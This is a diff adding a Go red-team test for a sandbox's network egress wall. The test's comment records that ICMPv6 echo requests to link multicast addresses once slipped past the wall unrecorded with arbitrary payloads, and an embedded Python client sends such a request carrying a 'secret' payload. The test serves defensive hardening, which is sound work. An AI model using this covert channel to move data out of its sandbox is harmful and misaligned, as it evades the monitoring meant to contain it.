@@ -621,3 +621,57 @@ func TestRedteamDNSFlood(t *testing.T) {
 		})
 	}
 }
+
+// multicastPingClient pings each ADDR%tap0 given, by an ICMPv6 echo request
+// from a ping socket carrying a payload of the command's, once IPv6's
+// default route through the connector is there.
+const multicastPingClient = `import socket, subprocess, sys, time
+for i in range(50):
+    r = subprocess.run(["ip", "-6", "route", "show", "default"], capture_output=True, text=True).stdout
+    if any(l and "dev lo" not in l for l in r.splitlines()):
+        break
+    time.sleep(0.1)
+for a in sys.argv[1:]:
+    p = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
+    try:
+        p.sendto(bytes([128, 0, 0, 0, 0, 1, 0, 1]) + b"secret", socket.getaddrinfo(a, 0, socket.AF_INET6, socket.SOCK_DGRAM, 0, socket.AI_NUMERICHOST)[0][4])
+        print(a, "sent")
+    except OSError as e:
+        print(a, e)
+    p.close()
+time.sleep(0.3)
+`
+
+// TestRedteamMulticastPing: in allow mode the wall lets ICMPv6 to the
+// link's multicast addresses (ff02::/16) through, which IPv6 needs to reach
+// the connector's gateway (MLD; neighbour discovery is accepted by type).
+// An echo request from the command's ping socket to ff02::1 (every node of
+// the link: under Claude Code the host's network) went through that rule
+// unrecorded, with whatever payload the command put in it. Only MLD's
+// types go through now: the echo request is refused and recorded, an icmp
+// entry of the address. (slirp4netns only: it forwards no ICMPv6 it does
+// not answer itself, so nothing leaves the host even where the wall let it
+// through; pasta would send it on from the host.)
+func TestRedteamMulticastPing(t *testing.T) {
+	if _, err := os.Stat("/proc/net/if_inet6"); err != nil {
+		missing(t, "IPv6 (/proc/net/if_inet6)")
+	}
+	addrs := []string{"ff02::1", "ff02::2", "ff02::16"}
+	var zoned []string
+	for _, a := range addrs {
+		zoned = append(zoned, a+"%"+slirpTap)
+	}
+	run := runRedteam(t, ConnectorSlirp, evidence.EgressPolicy{AllowIP: []string{"198.18.0.3/32"}},
+		fmt.Sprintf("sh:python3 - %s <<'PY'\n%sPY\n", strings.Join(zoned, " "), multicastPingClient))
+	res := run.res
+	defer dumpOnFailure(t, res)
+	t.Logf("probe: %s", res.Probes[0].Output)
+	if res.FinishErr != "" {
+		t.Errorf("finish: %s", res.FinishErr)
+	}
+	for _, a := range addrs {
+		if e, ok := connectEntryFor(res.Egress, a, 0, "icmp"); !ok || e.Allowed || e.Attempts != 1 {
+			t.Errorf("echo request to %s: entry %+v (found %v), want one icmp attempt, refused", a, e, ok)
+		}
+	}
+}
